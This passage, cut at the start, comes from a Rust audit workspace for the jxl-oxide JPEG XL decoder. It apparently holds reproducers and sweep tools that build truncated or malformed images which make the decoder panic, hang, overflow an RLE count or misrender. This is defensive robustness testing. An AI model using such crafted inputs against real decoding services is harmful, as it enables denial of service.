        let log = run_capturing_panic(|| decode_like_fuzz_harness(&data)).expect("no panic");
        let rendered = log.iter().any(|l| l.contains("render_frame(0) -> Ok"));
        let eof = log.iter().any(|l| l.contains("unexpected end of file"));
        if raw.wrapping_add(MIN_LENGTH) == 0 {
            // Repeat(0) -> RleState: repeat = 0u32.wrapping_sub(1) = 0xFFFF_FFFF: one token
            // covers all 12288 samples although the stream asked for a run of 2^32 (or, wrapped, 0).
            assert!(rendered && !eof, "{log:?}");
        } else {
            // Repeat(2): two samples, then the decoder wants more tokens and hits end of data.
            assert!(!rendered && eof, "{log:?}");
        }
    }
}

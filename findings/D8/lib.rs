//! Demo crate; see tests/rle_overflow.rs and NOTES.md.

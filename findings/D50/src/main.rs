//! Reproducer: `jbrd` box placed after the codestream, fed incrementally. Once the jbrd header
//! has been parsed but its Brotli-compressed data section is still incomplete,
//! `jpeg_reconstruction_status()` says `Available` and `reconstruct_jpeg()` panics.
#![allow(dead_code)]

use std::sync::Mutex;

include!("builders.rs");

static LAST_PANIC: Mutex<Option<String>> = Mutex::new(None);

#[derive(PartialEq, Clone)]
enum Outcome {
    Ok { exact: bool },
    Err(String),
    Panic(String),
}

impl std::fmt::Display for Outcome {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Outcome::Ok { exact } => write!(f, "Ok (byte-exact: {exact})"),
            Outcome::Err(e) => write!(f, "Err({e})"),
            Outcome::Panic(p) => write!(f, "PANIC {p}"),
        }
    }
}

fn try_reconstruct(image: &JxlImage, original: &[u8]) -> Outcome {
    let mut out = Vec::new();
    let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        image.reconstruct_jpeg(&mut out)
    }));
    match r {
        Ok(Ok(())) => Outcome::Ok {
            exact: out == original,
        },
        Ok(Err(e)) => Outcome::Err(e.to_string()),
        Err(_) => Outcome::Panic(LAST_PANIC.lock().unwrap().take().unwrap_or_default()),
    }
}

/// ftyp, jxlc (sized), jbrd: the reconstruction box follows the codestream.
fn build_container_jbrd_last(j: &Jpeg) -> (Vec<u8>, usize, usize) {
    let mut out = b"\x00\x00\x00\x0cJXL \x0d\x0a\x87\x0a".to_vec();
    out.extend(boxed(b"ftyp", b"jxl \0\0\0\0jxl "));
    out.extend(boxed(b"jxlc", &build_codestream(j)));
    let jbrd_payload_start = out.len() + 8;
    out.extend(boxed(b"jbrd", &build_jbrd(j)));
    (out.clone(), jbrd_payload_start, out.len())
}

/// Feeds `file[..cut]` one byte at a time.
fn feed_prefix(file: &[u8], cut: usize) -> Option<JxlImage> {
    let mut uninit = JxlImage::builder().build_uninit();
    let mut pos = 0usize;
    let mut end = 0usize;
    let mut image = loop {
        if end == cut {
            return None;
        }
        end += 1;
        pos += uninit.feed_bytes(&file[pos..end]).unwrap();
        match uninit.try_init().unwrap() {
            jxl_oxide::InitializeResult::NeedMoreData(u) => uninit = u,
            jxl_oxide::InitializeResult::Initialized(i) => break i,
        }
    };
    while end < cut {
        end += 1;
        pos += image.feed_bytes(&file[pos..end]).unwrap();
    }
    Some(image)
}

fn main() {
    std::panic::set_hook(Box::new(|info| {
        let msg = info
            .payload()
            .downcast_ref::<String>()
            .cloned()
            .or_else(|| info.payload().downcast_ref::<&str>().map(|s| s.to_string()))
            .unwrap_or_default();
        let loc = info
            .location()
            .map(|l| format!("{}:{}:{}", l.file(), l.line(), l.column()))
            .unwrap_or_default();
        *LAST_PANIC.lock().unwrap() = Some(format!("\"{msg}\" at {loc}"));
    }));

    let j = make_jpeg(false);
    let original = write_jpeg(&j);
    let (file, jbrd_start, len) = build_container_jbrd_last(&j);
    let mut panicked = false;
    println!("file: {len} bytes, jbrd payload at {jbrd_start}..{len} (last 19 bytes are the Brotli data section)");

    // 1. control: complete file
    let image = feed_prefix(&file, len).unwrap();
    let o = try_reconstruct(&image, &original);
    println!("[control, complete file, incremental] status {:?}, reconstruct_jpeg: {o}", image.jpeg_reconstruction_status());
    panicked |= matches!(o, Outcome::Panic(_));
    let image = JxlImage::builder().read(&file[..]).unwrap();
    let o = try_reconstruct(&image, &original);
    println!("[control, complete file, read()]      status {:?}, reconstruct_jpeg: {o}", image.jpeg_reconstruction_status());
    panicked |= matches!(o, Outcome::Panic(_));

    // 2. jbrd header complete, Brotli data section cut
    let cut = len - 10;
    let image = feed_prefix(&file, cut).unwrap();
    let o = try_reconstruct(&image, &original);
    println!("[cut at {cut}, incremental]  status {:?}, reconstruct_jpeg: {o}", image.jpeg_reconstruction_status());
    panicked |= matches!(o, Outcome::Panic(_));

    // 3. same truncated file through builder().read()
    match JxlImage::builder().read(&file[..cut]) {
        Ok(image) => {
            let o = try_reconstruct(&image, &original);
            println!("[cut at {cut}, read()]       status {:?}, reconstruct_jpeg: {o}", image.jpeg_reconstruction_status());
            panicked |= matches!(o, Outcome::Panic(_));
        }
        Err(e) => println!("[cut at {cut}, read()]       read() itself returned Err({e})"),
    }

    // 4. sweep over every prefix length
    println!("sweep over all prefix lengths (only changes are printed):");
    let mut last = String::new();
    let mut n_panics = 0;
    for cut in 0..=len {
        let line = match feed_prefix(&file, cut) {
            None => "image header not yet available".to_string(),
            Some(image) => {
                let o = try_reconstruct(&image, &original);
                if matches!(o, Outcome::Panic(_)) {
                    n_panics += 1;
                }
                let o = match o {
                    Outcome::Panic(p) => format!("PANIC {}", p.split(" at ").last().unwrap()),
                    o => o.to_string(),
                };
                format!("status {:?}, reconstruct_jpeg: {o}", image.jpeg_reconstruction_status())
            }
        };
        if line != last {
            println!("  from {cut:4}: {line}");
            last = line;
        }
    }
    println!("{n_panics} prefix lengths panic");
    panicked |= n_panics > 0;

    if panicked {
        println!("RESULT: reconstruct_jpeg() panicked while jpeg_reconstruction_status() said Available");
        std::process::exit(1);
    }
    println!("RESULT: no panic");
}

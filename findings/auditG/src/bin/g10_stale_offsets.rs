//! Audit G finding 1: single-section VarDCT frame; one render_loading_frame() while the file is partially loaded
//! makes the final render_frame(0) fail ("previous parsing errored") or differ.
//!   g10_stale_offsets [case-name]
use audit_e::cases::*;
use audit_e::sweep::*;
use jxl_oxide::{InitializeResult, JxlImage, JxlThreadPool};

fn decode_with_probe(bytes: &[u8], p: usize) -> (String, Result<Planes, String>) {
    let mut u = JxlImage::builder().pool(JxlThreadPool::none()).build_uninit();
    u.feed_bytes(&bytes[..p]).unwrap();
    let mut image = match u.try_init().unwrap() {
        InitializeResult::Initialized(i) => i,
        InitializeResult::NeedMoreData(_) => return ("uninit".into(), Err("uninit".into())),
    };
    let at_prefix = match image.render_loading_frame() { Ok(_) => "Ok".to_string(), Err(e) => format!("Err({e})") };
    image.feed_bytes(&bytes[p..]).unwrap();
    image.finalize().unwrap();
    let fin = image.render_frame(0).map(|r| planes_of(&r)).map_err(|e| format!("{e}"));
    (at_prefix, fin)
}

fn main() {
    audit_e::install_quiet_hook();
    let filter = std::env::args().nth(1).unwrap_or("vardct_single".into());
    for c in all_cases() {
        if c.name != filter { continue; }
        let reference = one_shot(&c.bytes, new_pool(0)).unwrap();
        let expected = reference.renders[0].clone().unwrap();
        let n = c.bytes.len();
        let mut last = String::new();
        let mut start = 0;
        let mut bad = 0;
        for p in 1..=n {
            let desc = if p == n { "END".to_string() } else {
                let (at, fin) = match guarded(|| decode_with_probe(&c.bytes, p)) { Ok(x) => x, Err(pn) => (pn.clone(), Err(pn)) };
                if at == "uninit" { "header incomplete".to_string() } else {
                    let f = match &fin { Ok(pl) => match diff_planes(&expected, pl) { None => "final render identical".to_string(), Some(d) => { bad += 1; format!("FINAL RENDER DIFFERS: {}", d.split(", first").next().unwrap().chars().filter(|c| !c.is_ascii_digit()).collect::<String>()) } }, Err(e) => { bad += 1; format!("FINAL RENDER FAILS: {e}") } };
                    format!("render_loading_frame at prefix -> {at}; then {f}")
                }
            };
            if desc != last {
                if !last.is_empty() { println!("  prefix {start:4}..={:4}: {last}", p - 1); }
                last = desc; start = p;
            }
        }
        println!("[{}] {} bytes: {bad} prefix lengths where ONE render_loading_frame() call breaks the final render", c.name, n);
    }
}

//! Audit G finding 4: JxlImage::builder().read() / open() stop reading at the end of the codestream, so boxes
//! that follow the codestream box are seen only if they happen to arrive in the same read() call.
use audit_e::cases::*;
use audit_e::sweep::*;
use audit_e::*;
use jxl_oxide::{JxlImage, JxlThreadPool};

fn build(w: u32, h: u32, align: bool) -> Vec<u8> {
    let img = ImageSpec::rgb(w, h);
    let mut f = FrameSpec::new(&img);
    f.fill(&img, pat);
    let cs = encode_image(&img, &[f]);
    let mut out = container_prelude();
    if align {
        // an ignored box that makes the codestream box end on a multiple of 4096, the buffer size of read()
        let end = out.len() + 8 + cs.len() + 8;
        let pad = (4096 - end % 4096) % 4096;
        out.extend(make_box(b"free", &vec![0u8; pad], 0));
    }
    out.extend(make_box(b"jxlc", &cs, 0));
    assert!(!align || out.len() % 4096 == 0);
    out.extend(make_box(b"Exif", &exif_payload(), 0));
    out.extend(make_box(b"xml ", b"<x:xmpmeta xmlns:x='adobe:ns:meta/'/>", 0));
    out
}

fn main() {
    for (w, h, align) in [(12u32, 9u32, false), (64, 48, false), (64, 48, true)] {
        let bytes = build(w, h, align);
        // reference: everything through feed_bytes
        let fed = one_shot(&bytes, new_pool(0)).unwrap();
        // builder().read() from a slice (what open() does with a file)
        let image = JxlImage::builder().pool(JxlThreadPool::none()).read(&bytes[..]).unwrap();
        let via_read = snapshot(&image);
        println!("{w}x{h}, file of {} bytes (codestream box{}, then Exif box, then xml box):", bytes.len(), if align { " ending at a multiple of 4096" } else { "" });
        println!("    feed_bytes(all) + finalize : exif {:.40}  xml {:.30}", fed.exif, fed.xml);
        println!("    builder().read(&bytes[..]) : exif {:.40}  xml {:.30}", via_read.exif, via_read.xml);
        for max in [1usize, 100] {
            let reader = ChunkReader { data: &bytes, pos: 0, rng: Rng(7), max };
            let image = JxlImage::builder().pool(JxlThreadPool::none()).read(reader).unwrap();
            let s = snapshot(&image);
            println!("    read(reader giving <= {max:3} bytes per call): exif {:.40}  xml {:.30}", s.exif, s.xml);
        }
    }
}

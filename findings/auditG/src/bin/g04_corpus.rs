//! Audit G: the (mostly malformed) sample files: no panic at any prefix, outcome independent of the chunking.
use audit_e::sweep::*;
fn main() {
    let filter = std::env::args().nth(1).unwrap_or_default();
    let mut files: Vec<std::path::PathBuf> = std::fs::read_dir("/tmp/auditG/crates/jxl-oxide-tests/tests/fuzz_findings").unwrap().map(|e| e.unwrap().path()).filter(|p| p.extension().map(|e| e == "fuzz").unwrap_or(false)).collect();
    files.sort();
    let mut grand = 0;
    for p in files {
        let name = p.file_name().unwrap().to_string_lossy().to_string();
        if !name.contains(filter.as_str()) { continue; }
        let data = std::fs::read(&p).unwrap();
        let stride = (data.len() / 1500).max(1);
        let t = std::time::Instant::now();
        let f = sweep_arbitrary(&name, &data, stride);
        f.report(&format!("{name} ({} bytes, {:.1}s)", data.len(), t.elapsed().as_secs_f32()));
        grand += f.total;
    }
    println!("TOTAL findings: {grand}");
}

//! Audit G: every test image decodes in one shot.
use audit_e::cases::*;
use audit_e::sweep::*;
fn main() {
    audit_e::install_quiet_hook();
    for c in all_cases() {
        match one_shot(&c.bytes, new_pool(0)) {
            Ok(s) => {
                let r: Vec<String> = s.renders.iter().map(|r| match r { Ok(p) => format!("ok {}ch {}x{}", p.planes.len(), p.planes[0].0, p.planes[0].1), Err(e) => format!("ERR {e}") }).collect();
                println!("{:40} {:6} bytes frames {} keyframes {} done {} offsets {:?} renders {:?} exif {} xml {} icc {:?}", c.name, c.bytes.len(), s.n_frames, s.n_keyframes, s.loading_done, &s.frame_offsets[..s.n_frames], r, &s.exif[..s.exif.len().min(20)], &s.xml[..s.xml.len().min(20)], s.original_icc.as_ref().map(|x| x.len()));
            }
            Err(e) => println!("{:40} {:6} bytes FAILED: {e}", c.name, c.bytes.len()),
        }
    }
}

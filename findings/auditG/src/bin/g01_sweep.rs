//! Audit G: prefix / chunking sweep over the encoder-made images.
//!   g01_sweep [name-filter] [stride] [threads]
use audit_e::cases::*;
use audit_e::sweep::*;

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let filter = args.get(1).cloned().unwrap_or_default();
    let stride_arg: Option<usize> = args.get(2).and_then(|s| s.parse().ok());
    let threads: usize = args.get(3).and_then(|s| s.parse().ok()).unwrap_or(0);
    let mut grand = 0;
    for c in all_cases() {
        if !filter.is_empty() && !c.name.contains(filter.as_str()) { continue; }
        let n = c.bytes.len();
        let stride = stride_arg.unwrap_or(if n <= 3000 { 1 } else { (n / 1500).max(1) });
        let cfg = SweepCfg { stride, random_runs: 200, one_byte: true, crop: (c.width / 3, c.height / 4, c.width / 2, c.height / 2), threads };
        let t = std::time::Instant::now();
        let f = sweep_file(c.name, &c.bytes, &cfg);
        f.report(&format!("{} ({} bytes, stride {}, {:.1}s)", c.name, n, stride, t.elapsed().as_secs_f32()));
        grand += f.total;
    }
    println!("TOTAL findings: {grand}");
}

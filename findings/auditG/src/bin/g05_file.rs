//! Audit G: prefix / chunking sweep over a real file.   g05_file <path> <stride> [threads] [random_runs]
use audit_e::sweep::*;
fn main() {
    let args: Vec<String> = std::env::args().collect();
    let data = std::fs::read(&args[1]).unwrap();
    let stride: usize = args[2].parse().unwrap();
    let threads: usize = args.get(3).and_then(|s| s.parse().ok()).unwrap_or(0);
    let random_runs: usize = args.get(4).and_then(|s| s.parse().ok()).unwrap_or(20);
    let t = std::time::Instant::now();
    let r = one_shot(&data, new_pool(threads)).unwrap();
    println!("one-shot: {:.2}s, frames {}, keyframes {}, size {:?}, boundaries {:?}", t.elapsed().as_secs_f32(), r.n_frames, r.n_keyframes, r.size, section_boundaries(&data).len());
    let cfg = SweepCfg { stride, random_runs, one_byte: false, crop: (r.size.0 / 3, r.size.1 / 4, r.size.0 / 2, r.size.1 / 2), threads };
    let t = std::time::Instant::now();
    let f = sweep_file(&args[1], &data, &cfg);
    f.report(&format!("{} ({} bytes, stride {}, {:.1}s)", args[1], data.len(), stride, t.elapsed().as_secs_f32()));
}

//! Audit G finding 3 (multi-threaded pool): LF frame + VarDCT frame with use_lf_frame; render_frame(0) sometimes
//! never returns.   g12_mt_hang [threads] [iterations] [case]
use audit_e::cases::*;
use jxl_oxide::{JxlImage, JxlThreadPool};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

fn main() {
    let threads: usize = std::env::args().nth(1).and_then(|s| s.parse().ok()).unwrap_or(3);
    let iters: usize = std::env::args().nth(2).and_then(|s| s.parse().ok()).unwrap_or(300);
    let name = std::env::args().nth(3).unwrap_or("vardct_lf_frame".into());
    let c = all_cases().into_iter().find(|c| c.name == name).expect("case");
    let progress = Arc::new(AtomicUsize::new(0));
    {
        let progress = progress.clone();
        std::thread::spawn(move || {
            let mut last = (usize::MAX, std::time::Instant::now());
            loop {
                std::thread::sleep(std::time::Duration::from_millis(500));
                let p = progress.load(Ordering::SeqCst);
                if p != last.0 { last = (p, std::time::Instant::now()); }
                else if last.1.elapsed().as_secs() >= std::env::var("HANG_SECS").ok().and_then(|s| s.parse().ok()).unwrap_or(20) {
                    println!("HANG: iteration {} (stage {}) made no progress for 20 s with {threads} threads; stage 1 = decoding, 2 = inside render_frame(0)", p / 4, p % 4);
                    std::process::exit(2);
                }
            }
        });
    }
    for i in 0..iters {
        progress.store(i * 4 + 1, Ordering::SeqCst);
        let pool = if threads == 0 { JxlThreadPool::none() } else { JxlThreadPool::rayon(Some(threads)) };
        let image = JxlImage::builder().pool(pool).read(&c.bytes[..]).unwrap();
        progress.store(i * 4 + 2, Ordering::SeqCst);
        let r = image.render_frame(0).map(|r| r.image_planar().len()).map_err(|e| e.to_string());
        progress.store(i * 4 + 3, Ordering::SeqCst);
        assert!(r.is_ok(), "{r:?}");
    }
    println!("{name}: {iters} iterations of read() + render_frame(0) with {threads} threads completed");
}

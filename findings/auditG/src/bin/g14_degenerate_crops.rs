//! Audit G: set_image_region with degenerate regions, at a prefix and on the complete image.
use audit_e::cases::*;
use audit_e::sweep::*;
use jxl_oxide::{CropInfo, InitializeResult, JxlImage, JxlThreadPool};

fn main() {
    audit_e::install_quiet_hook();
    let crops: Vec<(u32, u32, u32, u32)> = vec![
        // (regions with a huge area are left out: the render allocates width * height samples whatever the image size)
        (0, 0, 0, 0), (5, 5, 0, 3), (1000, 1000, 10, 10), (0, 0, 700, 500), (u32::MAX, 0, 4, 4), (0, u32::MAX, 4, 4),
        (0x7fffffff, 0x7fffffff, 3, 3), (0x80000000, 0, 1, 1), (0x7ffffffe, 2, 5, 1), (2, 0xfffffffe, 1, 5),
    ];
    let mut total = 0;
    for c in all_cases() {
        if !["single", "gray_orient6", "blend_ref", "patches", "upsampling2_ec4", "gab_epf2", "groups_2x2", "vardct_single", "vardct_alpha_gab_epf", "squeeze_single", "animation"].contains(&c.name) { continue; }
        let n = c.bytes.len();
        let mut f = Findings::default();
        for &(l, t, w, h) in &crops {
            for p in [n / 3, n / 2, n * 3 / 4, n] {
                let ctx = format!("{} crop ({l},{t},{w},{h}) @{p}/{n}", c.name);
                let mut u = JxlImage::builder().pool(JxlThreadPool::none()).build_uninit();
                u.feed_bytes(&c.bytes[..p]).unwrap();
                let Ok(InitializeResult::Initialized(mut image)) = u.try_init() else { continue };
                let r = guarded(|| {
                    image.set_image_region(CropInfo { left: l, top: t, width: w, height: h });
                    let a = image.render_loading_frame_cropped().map(|r| planes_of(&r).planes.len()).map_err(|e| e.to_string());
                    let b = (0..image.num_loaded_keyframes()).map(|k| image.render_frame_cropped(k).map(|r| planes_of(&r).planes.len()).map_err(|e| e.to_string())).collect::<Vec<_>>();
                    (a, b)
                });
                match r {
                    Err(pn) => f.add(&ctx, pn),
                    Ok((_, b)) => for (k, r) in b.iter().enumerate() { if let Err(e) = r { f.add(&ctx, format!("render_frame_cropped({k}) of a loaded keyframe: {e}")); } },
                }
            }
        }
        f.report(c.name);
        total += f.total;
    }
    println!("TOTAL {total}");
}

//! Audit G finding 2: what render_loading_frame() returns between two frames.
//! While frame k has no section data yet (only its header, or not even that), the documented "currently loading
//! keyframe" is the canvas made of frames 0..k.  Expected = one-shot decode of the same frames 0..k with the last
//! one flagged is_last.
use audit_e::cases::*;
use audit_e::sweep::*;
use audit_e::*;
use jxl_oxide::{InitializeResult, JxlImage, JxlThreadPool};

struct Scn { name: &'static str, img: ImageSpec, frames: Vec<FrameSpec> }

fn scenarios() -> Vec<Scn> {
    let mut v = Vec::new();
    {
        // A: zero-duration full frame, then a cropped last frame
        let img = ImageSpec::rgb(20, 16);
        let mut f0 = FrameSpec::new(&img);
        f0.is_last = false; f0.fill(&img, pat);
        let mut f1 = FrameSpec::new(&img);
        f1.crop = Some((6, 5, 8, 7));
        f1.fill(&img, pat2);
        v.push(Scn { name: "A: full layer, then cropped last layer at (6,5)", img, frames: vec![f0, f1] });
    }
    {
        // B: cropped zero-duration layer, then a reference-only frame, then the last frame
        let mut img = ImageSpec::rgb(16, 16);
        img.ec.push(EcSpec { ty: 0, dim_shift: 0, alpha_associated: false });
        let mut f0 = FrameSpec::new(&img);
        f0.is_last = false; f0.save_as_reference = 1; f0.crop = Some((5, 4, 8, 9));
        f0.blend = BlendSpec { mode: 1, alpha_channel: 0, clamp: false, source: 1 };
        f0.ec_blend[0] = BlendSpec { mode: 1, alpha_channel: 0, clamp: false, source: 1 };
        f0.fill(&img, |c, x, y| if c == 3 { 100 } else { pat(c, x, y) / 2 });
        let mut r = FrameSpec::new(&img);
        r.frame_type = 2; r.is_last = false; r.save_as_reference = 2; r.save_before_ct = false;
        r.fill(&img, |c, x, y| if c == 3 { 255 } else { pat3(c, x, y) / 2 });
        let mut f1 = FrameSpec::new(&img);
        f1.crop = Some((2, 1, 10, 12));
        f1.blend = BlendSpec { mode: 1, alpha_channel: 0, clamp: false, source: 1 };
        f1.ec_blend[0] = BlendSpec { mode: 0, alpha_channel: 0, clamp: false, source: 0 };
        f1.fill(&img, |c, x, y| if c == 3 { 100 } else { pat2(c, x, y) / 4 });
        v.push(Scn { name: "B: cropped layer saved in slot 1 (kAdd over slot 1), reference-only frame, last layer", img, frames: vec![f0, r, f1] });
    }
    {
        // C: the usual layered image: every layer is alpha-blended over slot 0 and saved back to slot 0
        let mut img = ImageSpec::rgb(16, 12);
        img.ec.push(EcSpec { ty: 0, dim_shift: 0, alpha_associated: false });
        let mut frames = Vec::new();
        for i in 0..3u32 {
            let mut f = FrameSpec::new(&img);
            f.is_last = i == 2; f.save_as_reference = 0;
            if i > 0 {
                f.crop = Some((2 + i as i32, 1, 9, 8));
                f.blend = BlendSpec { mode: 2, alpha_channel: 0, clamp: false, source: 0 };
                f.ec_blend[0] = BlendSpec { mode: 2, alpha_channel: 0, clamp: false, source: 0 };
            }
            f.fill(&img, move |c, x, y| if c == 3 { if i == 0 { 255 } else { 128 } } else { [pat, pat2, pat3][i as usize](c, x, y) });
            frames.push(f);
        }
        v.push(Scn { name: "C: three layers, kBlend over slot 0, saved to slot 0", img, frames });
    }
    v
}

fn main() {
    install_quiet_hook();
    for s in scenarios() {
        let (bytes, marks) = encode_image_ex(&s.img, None, &s.frames);
        let full = JxlImage::builder().pool(JxlThreadPool::none()).read(&bytes[..]).unwrap();
        println!("== scenario {} ({} bytes, frames at {:?})", s.name, bytes.len(), &marks[1..]);
        for k in 1..s.frames.len() {
            // canvas of frames 0..k: drop trailing non-displayed frames, flag the last normal one is_last
            let mut sub: Vec<FrameSpec> = s.frames[..k].to_vec();
            while sub.last().map(|f| f.frame_type == 2 || f.frame_type == 1).unwrap_or(false) { sub.pop(); }
            if sub.is_empty() { continue; }
            sub.last_mut().unwrap().is_last = true;
            let expected = planes_of(&open(&encode_image(&s.img, &sub)).render_frame(0).unwrap());
            let start = full.frame_offset(k).unwrap();
            let first_section = start + full.frame(k).unwrap().toc().iter_bitstream_order().next().unwrap().offset;
            let mut last = String::new();
            let mut from = 0;
            for p in start..=first_section + 1 {
                let desc = if p == first_section + 1 { "END".to_string() } else {
                    let mut u = JxlImage::builder().pool(JxlThreadPool::none()).build_uninit();
                    u.feed_bytes(&bytes[..p]).unwrap();
                    let InitializeResult::Initialized(mut image) = u.try_init().unwrap() else { panic!() };
                    let hdr = image.frame(k).is_some();
                    let r = guarded(|| image.render_loading_frame().map(|r| planes_of(&r)).map_err(|e| format!("{e}")));
                    let what = match r {
                        Err(p) => p,
                        Ok(Err(e)) => format!("Err({e})"),
                        Ok(Ok(pl)) => match diff_planes(&expected, &pl) { None => "Ok, equals the canvas of the loaded frames".into(), Some(d) => format!("Ok but WRONG: {d}") },
                    };
                    format!("frame {k} header parsed: {hdr}; render_loading_frame -> {what}")
                };
                if desc != last {
                    if !last.is_empty() { println!("  frames 0..{k} complete, prefix {from}..={}: {last}", p - 1); }
                    last = desc; from = p;
                }
            }
        }
    }
}

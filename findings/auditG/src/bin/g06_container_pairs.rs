//! Audit G: containers, every pair of cut points (three chunks), final result vs one-shot.
use audit_e::cases::*;
use audit_e::sweep::*;
fn main() {
    audit_e::install_quiet_hook();
    let step: usize = std::env::args().nth(1).and_then(|s| s.parse().ok()).unwrap_or(1);
    for v in 0..6 {
        let c = container(v);
        let n = c.bytes.len();
        let reference = one_shot(&c.bytes, new_pool(0)).unwrap();
        let mut all = Findings::default();
        let t = std::time::Instant::now();
        let mut runs = 0;
        // the container part is the interesting one: all pairs below 200 bytes + around box boundaries, coarser beyond
        let pts: Vec<usize> = (1..n).filter(|p| *p < 220 || p % step == 0 || *p + 80 > n).collect();
        for (i, &a) in pts.iter().enumerate() {
            for &b in &pts[i + 1..] {
                all.merge(run_cuts(c.name, &c.bytes, &[a, b], ProbeOpts::NONE, &reference, 0));
                runs += 1;
            }
        }
        all.report(&format!("{} ({} bytes, {} three-chunk feeds, {:.1}s)", c.name, n, runs, t.elapsed().as_secs_f32()));
    }
}

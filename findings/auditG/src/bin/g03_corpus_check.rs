//! Audit G: which real sample files decode completely (candidates for the sweep)?
use audit_e::sweep::*;
fn main() {
    audit_e::install_quiet_hook();
    let mut files: Vec<std::path::PathBuf> = std::fs::read_dir("/tmp/auditG/crates/jxl-oxide-tests/tests/fuzz_findings").unwrap().map(|e| e.unwrap().path()).filter(|p| p.extension().map(|e| e == "fuzz").unwrap_or(false)).collect();
    files.push("/tmp/auditG/crates/jxl-oxide-tests/tests/cms/cmyk_layers.jxl".into());
    files.sort();
    for p in files {
        let data = std::fs::read(&p).unwrap();
        let name = p.file_name().unwrap().to_string_lossy().to_string();
        match one_shot(&data, new_pool(0)) {
            Ok(s) => {
                let r: Vec<String> = s.renders.iter().map(|r| match r { Ok(p) => format!("ok {}ch {}x{}", p.planes.len(), p.planes[0].0, p.planes[0].1), Err(e) => format!("ERR {e}") }).collect();
                let enc: Vec<&str> = s.frame_headers.iter().map(|h| if h.contains("encoding: VarDct") { "V" } else if h.contains("encoding: Modular") { "M" } else { "-" }).collect();
                println!("{:45} {:7} bytes frames {} {:?} keyframes {} done {} renders {:?}", name, data.len(), s.n_frames, enc, s.n_keyframes, s.loading_done, r);
            }
            Err(e) => println!("{:45} {:7} bytes FAILED: {}", name, data.len(), &e[..e.len().min(150)]),
        }
    }
}

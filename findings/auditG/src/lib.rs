//! Minimal hand-rolled JPEG XL codestream writer (Modular, non-XYB, 8-bit) for audit experiments.

pub struct BitWriter {
    pub bytes: Vec<u8>,
    nbits: usize,
}

impl Default for BitWriter {
    fn default() -> Self {
        Self::new()
    }
}

impl BitWriter {
    pub fn new() -> Self {
        Self {
            bytes: Vec::new(),
            nbits: 0,
        }
    }
    pub fn bits(&mut self, v: u64, n: usize) {
        for i in 0..n {
            let bit = ((v >> i) & 1) as u8;
            if self.nbits % 8 == 0 {
                self.bytes.push(0);
            }
            let last = self.bytes.last_mut().unwrap();
            *last |= bit << (self.nbits % 8);
            self.nbits += 1;
        }
    }
    pub fn bool(&mut self, b: bool) {
        self.bits(b as u64, 1);
    }
    pub fn pad(&mut self) {
        while self.nbits % 8 != 0 {
            self.bits(0, 1);
        }
    }
    /// selector + extra bits
    pub fn sel(&mut self, sel: u32, v: u32, n: usize) {
        self.bits(sel as u64, 2);
        self.bits(v as u64, n);
    }
    pub fn u64v(&mut self, v: u64) {
        if v == 0 {
            self.bits(0, 2);
        } else if v <= 16 {
            self.bits(1, 2);
            self.bits(v - 1, 4);
        } else if v <= 272 {
            self.bits(2, 2);
            self.bits(v - 17, 8);
        } else {
            assert!(v < 4096);
            self.bits(3, 2);
            self.bits(v, 12);
            self.bits(0, 1);
        }
    }
    pub fn append_aligned(&mut self, b: &[u8]) {
        assert!(self.nbits % 8 == 0);
        self.bytes.extend_from_slice(b);
        self.nbits += b.len() * 8;
    }
    pub fn finish(mut self) -> Vec<u8> {
        self.pad();
        self.bytes
    }
}

pub fn pack_signed(v: i32) -> u32 {
    if v >= 0 {
        (v as u32) * 2
    } else {
        ((-(v as i64)) as u32) * 2 - 1
    }
}

/// Entropy code header: `num_dist` contexts, all in one cluster, flat 32-symbol prefix code,
/// hybrid uint config (0,0,0).
pub fn write_entropy_header(w: &mut BitWriter, num_dist: u32) {
    w.bool(false); // lz77 disabled
    if num_dist > 1 {
        w.bool(true); // simple clustering
        w.bits(0, 2); // nbits = 0
    }
    w.bool(true); // use_prefix_code
    w.bits(0, 4); // split_exponent = 0
    // alphabet size 32
    w.bool(true);
    w.bits(4, 4);
    w.bits(15, 4);
    // complex prefix code, hskip = 0
    w.bits(0, 2);
    for _ in 0..5 {
        w.bits(0, 2);
    }
    w.bits(1, 2); // code length symbol 5 has length 4 (only nonzero)
    for _ in 0..12 {
        w.bits(0, 2);
    }
}

/// Entropy code header for the sample stream, see `FrameSpec::entropy`.
pub fn write_entropy_header_mode(w: &mut BitWriter, num_dist: u32, mode: u8) {
    if mode == 0 {
        return write_entropy_header(w, num_dist);
    }
    w.bool(false); // lz77 disabled
    if num_dist > 1 {
        w.bool(true); // simple clustering
        w.bits(0, 2); // nbits = 0
    }
    w.bool(true); // use_prefix_code
    w.bits(0, 4); // split_exponent = 0
    if mode == 1 {
        w.bool(true);
        w.bits(0, 4); // count = 1 + (1 << 0) + 0 = 2
        w.bits(1, 2); // hskip = 1: simple code
        w.bits(1, 2); // nsym - 1 = 1
        w.bits(0, 1); // symbol 0
        w.bits(1, 1); // symbol 1
    } else {
        w.bool(false); // count = 1
    }
}

pub fn write_value_mode(w: &mut BitWriter, v: u32, mode: u8) {
    match mode {
        0 => write_value(w, v),
        1 => { assert!(v <= 1, "entropy mode 1 takes residual 0 or -1"); w.bits(v as u64, 1); }
        _ => assert!(v == 0, "entropy mode 2 takes residual 0"),
    }
}

pub fn write_value(w: &mut BitWriter, v: u32) {
    let (token, n, extra) = if v == 0 {
        (0u32, 0usize, 0u32)
    } else {
        let n = 31 - v.leading_zeros();
        (1 + n, n as usize, v - (1 << n))
    };
    // 5-bit canonical code, MSB first
    for i in (0..5).rev() {
        w.bits(((token >> i) & 1) as u64, 1);
    }
    w.bits(extra as u64, n);
}

#[derive(Clone, Debug)]
pub enum Tree {
    Leaf {
        pred: u32,
        offset: i32,
        mul_log: u32,
        mul_bits: u32,
    },
    Node {
        prop: u32,
        value: i32,
        /// taken when property > value
        left: Box<Tree>,
        right: Box<Tree>,
    },
}

impl Tree {
    pub fn zero_leaf() -> Tree {
        Tree::Leaf {
            pred: 0,
            offset: 0,
            mul_log: 0,
            mul_bits: 0,
        }
    }
    pub fn leaf(pred: u32, offset: i32) -> Tree {
        Tree::Leaf {
            pred,
            offset,
            mul_log: 0,
            mul_bits: 0,
        }
    }
    pub fn node(prop: u32, value: i32, left: Tree, right: Tree) -> Tree {
        Tree::Node {
            prop,
            value,
            left: Box::new(left),
            right: Box::new(right),
        }
    }
}

